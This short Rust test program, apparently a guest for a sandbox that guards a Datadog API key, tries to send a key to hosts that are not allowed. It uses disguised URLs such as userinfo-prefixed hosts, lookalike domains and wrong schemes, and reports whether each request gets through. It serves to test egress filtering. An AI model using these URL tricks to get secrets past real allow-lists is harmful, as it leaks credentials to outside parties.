//! Sends the key to somebody else: at another port, of another scheme, under another name, and to the agent.

use dogwrap_guests::{post, report, run, variable};

fn main() {
    let other = variable("DD_OTHER");
    let urls = [format!("http://{other}"), format!("https://{other}"), format!("http://user@{other}/api/v1/events")];
    report(urls.iter().map(|url| post(url, "body").map(|_| url)));
    let site = variable("DD_ALLOWED");
    let disguised = [format!("http://{site}@{other}/"), format!("https://{site}"), format!("http://{site}1/")];
    report(disguised.iter().map(|url| post(url, "body").map(|_| url)));
    let named = ["http://localhost", "http://api.datadoghq.com", "https://api.datadoghq.com.example.com"];
    report(named.iter().map(|url| post(url, "body").map(|_| url)));
    run()
}
